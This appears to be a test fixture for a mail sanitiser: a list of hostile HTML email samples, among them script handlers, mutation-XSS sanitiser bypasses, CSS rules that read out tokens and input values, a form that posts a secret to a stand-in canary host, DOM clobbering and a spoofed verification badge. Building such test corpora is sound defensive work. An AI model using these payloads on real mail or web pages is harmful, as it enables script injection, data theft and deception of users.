// Hostile mail, written for this project after published classes of attacks: script injection (OWASP, HTML5 security
// cheatsheet), mutation of sanitised HTML (Heiderich et al. 2013, "mXSS"; the DOMPurify bypasses of 2019-2024), back
// channels in mail (Müller et al. 2020, Poddebniak et al. 2018 "EFAIL"), reading content by style sheets (Heiderich et
// al. 2012, "Scriptless attacks"), DOM clobbering (Khodayari 2023). The canary's server receives a request for every success.

export const CANARY_HOST = "canary.example";
const C = `https://${CANARY_HOST}`;
const RUN = "top.pwned=self.pwned=1;new Image().src='https://canary.example/run'";

/** [attempt, HTML] */
export const HOSTILE: readonly (readonly [string, string])[] = [
  // Scripts
  ["script element", `<script>${RUN}</script>`],
  ["script from elsewhere", `<script src="${C}/x.js"></script>`],
  ["image error handler", `<img src=x onerror="${RUN}">`],
  ["handler without quotes, slash for space", `<img/src=x/onerror=top.pwned=1>`],
  ["body handlers", `<body onload="${RUN}" onpageshow="${RUN}" onresize="${RUN}">x`],
  ["details toggle", `<details open ontoggle="${RUN}"><summary>x</summary></details>`],
  [
    "focus on its own",
    `<input autofocus onfocus="${RUN}"><a id=x tabindex=1 onfocusin="${RUN}" autofocus href=#>x</a>`,
  ],
  ["animation handler", `<style>@keyframes x{}</style><b style="animation:x 1s" onanimationstart="${RUN}">x</b>`],
  ["popover handler", `<button popovertarget=p>x</button><div popover id=p onbeforetoggle="${RUN}">x</div>`],
  ["javascript link", `<a href="javascript:${RUN}">press</a>`],
  [
    "javascript link, broken up",
    `<a href="java&#9;script&colon;${RUN}">press</a><a href="\u0001javascript:${RUN}">x</a>`,
  ],
  ["data link", `<a href="data:text/html,<script>${RUN}</script>">press</a>`],
  [
    "vbscript, blob, file and own links",
    `<a href="vbscript:x">a</a><a href="blob:x">b</a><a href="file:///etc">c</a><a href="chrome-extension://x/">d</a>`,
  ],
  ["javascript image", `<img src="javascript:${RUN}"><input type=image src="javascript:${RUN}">`],
  ["svg handler", `<svg onload="${RUN}"><animate onbegin="${RUN}" attributeName=x /></svg>`],
  ["svg script", `<svg><script>${RUN}</script><script href="${C}/x.js"/></svg>`],
  [
    "svg link set by animation",
    `<svg><a><animate attributeName=href values="javascript:${RUN}" /><text y=20>press</text></a></svg>`,
  ],
  [
    "svg use",
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${RUN}'/></svg>#x"/></svg>`,
  ],
  [
    "svg as data image",
    `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'><image href='${C}/svg'/></svg>">`,
  ],
  ["svg foreignObject", `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></iframe></foreignObject></svg>`],
  ["math link", `<math href="javascript:${RUN}"><mtext>press</mtext></math>`],
  ["math action", `<math><maction actiontype="statusline" xlink:href="javascript:${RUN}">press</maction></math>`],
  // Mutation
  [
    "mXSS through math and style",
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  ],
  ["mXSS through form in math", `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${RUN}">`],
  ["mXSS through svg style", `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`],
  ["mXSS through noscript", `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`],
  ["mXSS through title", `<svg><title><style><img src="</style></title><img src=1 onerror=${RUN}>">`],
  ["mXSS through comment", `<!--><img src=x onerror="${RUN}">--><!-- --!><img src=x onerror="${RUN}">`],
  [
    "mXSS through template",
    `<template><img src=x onerror="${RUN}"></template><template shadowrootmode=open><img src=x onerror="${RUN}"></template>`,
  ],
  [
    "mXSS through xmp, listing, plaintext",
    `<xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp><listing>&lt;img onerror=${RUN} src&gt;</listing>`,
  ],
  [
    "mXSS through select",
    `<select><template><style><!--</style><a rel="--></style></template></select><img src=1 onerror=${RUN}>">`,
  ],
  [
    "mXSS through deep nesting",
    `${"<div>".repeat(600)}<table><caption><svg><style><img src="</style><img src=x onerror=${RUN}>">`,
  ],
  ["mXSS through processing instruction", `<?xml-stylesheet ><img src=x onerror="${RUN}"> ?>`],
  ["mXSS through CDATA", `<svg><![CDATA[><img src=x onerror="${RUN}">]]></svg>`],
  [
    "attribute that closes itself",
    `<a title="</a><img src=x onerror=${RUN}>">x</a><p id="</style><img src=x onerror=${RUN}>">x`,
  ],
  // Nested documents and navigation
  ["iframe", `<iframe src="${C}/frame"></iframe><iframe srcdoc="<script>${RUN}</script>"></iframe>`],
  ["frameset", `<frameset><frame src="${C}/frame"></frameset>`],
  ["object and embed", `<object data="${C}/o"><embed src="${C}/e"></object><applet code=x archive="${C}/a"></applet>`],
  [
    "portal, fencedframe, webview",
    `<portal src="${C}/p"></portal><fencedframe></fencedframe><webview src="${C}/w"></webview>`,
  ],
  [
    "meta refresh",
    `<meta http-equiv=refresh content="0;url=${C}/refresh"><head><meta http-equiv=refresh content="0;${C}/r"></head>`,
  ],
  ["meta policy", `<meta http-equiv=Content-Security-Policy content="report-uri ${C}/csp; default-src 'none'">`],
  ["base", `<base href="${C}/"><a href="x">x</a><img src="y">`],
  ["base target", `<base target=_top><a href="${C}/top">x</a>`],
  [
    "link elements",
    `<link rel=stylesheet href="${C}/l.css"><link rel=prefetch href="${C}/p"><link rel=dns-prefetch href="//${CANARY_HOST}"><link rel=preconnect href="${C}"><link rel=icon href="${C}/i">`,
  ],
  [
    "manifest, speculation rules",
    `<link rel=manifest href="${C}/m"><script type=speculationrules>{"prefetch":[{"urls":["${C}/s"]}]}</script>`,
  ],
  [
    "form that posts itself",
    `<form id=f action="${C}/form" method=post><input name=x value=secret><button autofocus>Log in</button></form><button form=f formaction="${C}/f2">x</button>`,
  ],
  [
    "form by image and isindex",
    `<form action="${C}/f"><input type=image src="${C}/i.png" name=x></form><isindex action="${C}/i">`,
  ],
  ["ping", `<a href="https://other.example/" ping="${C}/ping">x</a>`],
  [
    "link to the tab",
    `<a href="${C}/nav" target=_top>x</a><a href="${C}/nav" target=_parent>x</a><area href="${C}/nav">`,
  ],
  ["download", `<a href="${C}/x.exe" download="x.exe">x</a>`],
  // Back channels
  ["image", `<img src="${C}/i.png"><img srcset="${C}/s.png 1x, ${C}/t.png 2x"><image src="${C}/image">`],
  [
    "image, half a scheme",
    `<img src="//${CANARY_HOST}/x"><img src="/\\${CANARY_HOST}/x"><img src="https:${CANARY_HOST}/x"><img src="http://${CANARY_HOST}/x">`,
  ],
  ["picture and source", `<picture><source srcset="${C}/p.png"><img src="${C}/i.png"></picture>`],
  [
    "lazy image and lowsrc",
    `<img loading=lazy src="${C}/lazy"><img lowsrc="${C}/low" dynsrc="${C}/dyn" longdesc="${C}/long">`,
  ],
  [
    "video, audio, track",
    `<video src="${C}/v" poster="${C}/poster" autoplay><track src="${C}/t" default></video><audio src="${C}/a" autoplay></audio><bgsound src="${C}/b">`,
  ],
  [
    "backgrounds",
    `<body background="${C}/b"><table background="${C}/t"><tr background="${C}/r"><td background="${C}/d">x`,
  ],
  [
    "svg images and filters",
    `<svg><image href="${C}/i"/><image xlink:href="${C}/x"/><feImage href="${C}/f"/><use href="${C}/u#x"/></svg>`,
  ],
  ["quotes with addresses", `<blockquote cite="${C}/q">x</blockquote><q cite="${C}/q">x</q><del cite="${C}/d">x</del>`],
  [
    "conditional comment",
    `<!--[if gte mso 9]><img src="${C}/mso"><![endif]--><![if !IE]><img src="${C}/ie"><![endif]>`,
  ],
  // Style sheets
  [
    "style url",
    `<p style="background:url(${C}/a)">x</p><p style="background-image:image-set(url(${C}/b) 1x)">x</p><p style="list-style:url(${C}/c)">x`,
  ],
  [
    "style url, escaped",
    `<p style="background:\\75rl(${C}/a)">x</p><p style="background:u\\72 l('${C}/b')">x</p><p style="background:/**/url(${C}/c)">x`,
  ],
  [
    "style other loads",
    `<p style="cursor:url(${C}/a),auto;content:url(${C}/b);filter:url(${C}/c#x);mask:url(${C}/d);border-image:url(${C}/e) 1;clip-path:url(${C}/f#x);shape-outside:url(${C}/g);offset-path:url(${C}/h#x)">x`,
  ],
  [
    "style cross-fade, src, element",
    `<p style="background:-webkit-cross-fade(url(${C}/a),url(${C}/b),50%);background-image:src('${C}/c');background:element(#x)">x`,
  ],
  [
    "style variables",
    `<p style="--x:url(${C}/v);background:var(--x)">x</p><style>p{--y:url(${C}/y);background-image:var(--y)}</style><p>y`,
  ],
  [
    "style attr() and if()",
    `<p data-x="${C}/a" style="background:image-set(attr(data-x));background:attr(data-x type(<url>))">x`,
  ],
  [
    "sheet import",
    `<style>@import "${C}/i.css"; @import url(${C}/u.css);</style><style>@charset "utf-8";@\\69mport '${C}/e';</style>`,
  ],
  [
    "sheet font",
    `<style>@font-face{font-family:x;src:url(${C}/font);unicode-range:U+41}</style><p style="font-family:x">A`,
  ],
  [
    "sheet that reads out",
    `<style>a[href*=token]{background:url(${C}/t)} input[value^=a]{background:url(${C}/a)} p::before{content:url(${C}/b)}</style><a href="https://other.example/token">x</a>`,
  ],
  [
    "sheet under conditions",
    `<style>@media screen{p{background:url(${C}/m)}} @supports (color:red){p{background:url(${C}/s)}} @container (width>1px){p{background:url(${C}/c)}} @layer x{p{background:url(${C}/l)}}</style><p>x`,
  ],
  [
    "sheet nested",
    `<style>div{& p{background:url(${C}/n)}} @scope{p{background:url(${C}/sc)}}</style><div><p>x</p></div>`,
  ],
  [
    "sheet page, counter, property",
    `<style>@page{background:url(${C}/p)} @counter-style x{symbols:url(${C}/c)} @property --p{syntax:"<url>";inherits:false;initial-value:url(${C}/r)} li{list-style:x}</style><li>x`,
  ],
  [
    "sheet visited",
    `<style>a:visited{background:url(${C}/v)} a:not(:visited){list-style-image:url(${C}/n)}</style><a href="https://other.example/">x</a>`,
  ],
  [
    "sheet of legacy engines",
    `<p style="behavior:url(${C}/b.htc);-moz-binding:url(${C}/x.xml#x);width:expression(${RUN})">x`,
  ],
  [
    "sheet broken out of",
    `<style>p{color:red}</style><style><!-- p{color:"</style><img src=x onerror=${RUN}>"} --></style>`,
  ],
  // Clobbering and covering
  [
    "names of the document",
    `<img name=body><img name=documentElement><img name=querySelector><a id=adoptedStyleSheets></a><form name=defaultView><input name=attributes></form>`,
  ],
  [
    "over the overlay",
    `<div style="position:fixed;inset:0;z-index:99999;background:#fff">Log in</div><style>body{position:fixed;top:-500px}</style>`,
  ],
  ["grows with its window", `<div style="height:110vh;min-height:120dvh">x</div><style>div{height:130svh}</style>`],
  ["our own voice", `<p class="cachet-host cachet-mail" role=alert aria-label="Verified by Cachet">Signed</p>`],
];
